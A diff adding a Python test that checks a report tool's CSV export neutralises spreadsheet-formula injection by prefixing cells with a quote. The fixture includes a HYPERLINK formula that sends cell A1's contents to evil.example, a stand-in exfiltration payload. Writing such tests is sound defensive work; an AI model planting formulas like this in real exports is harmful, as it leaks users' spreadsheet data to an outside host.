@@ -77,6 +77,24 @@ def test_report_formats(seeded):
     assert ["not_helpful", "DevOps > The Coach", "3", "no example of a training plan"] in rows
 
 
+def test_report_csv_cells_typed_as_formulas_open_as_text(tmp_path):
+    """A question or comment typed as a spreadsheet formula (CSV injection) is written with a
+    leading quote, so a doc owner opening the CSV in a spreadsheet does not run it."""
+    store = open_store(None, tmp_path)
+    now = time.time()
+    typed = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    store.record(Record("f1", now, "dm", typed, "decline", None, None, 0, 0.4, None))
+    store.record(Record("f2", now, "dm", "coach", "answer", None, "DevOps > The Coach", 90, 0.4,
+                        None))  # fmt: skip
+    store.vote("f2", "a", "not_helpful")
+    store.comment("f2", "a", "@SUM(1+1)")
+    report = build_report(store.history(0), since_seconds=parse_since("1d"))
+    rows = list(csv.reader(io.StringIO(render_report(report, "csv"))))
+    assert ["unanswered", "'" + typed, "1", ""] in rows
+    assert ["not_helpful", "DevOps > The Coach", "1", "'@SUM(1+1)"] in rows
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+
+
 def test_report_cli(seeded):
     """`report --since 30d --format json` reads DATA_DIR; a bad --since exits 2."""
     _, data_dir = seeded
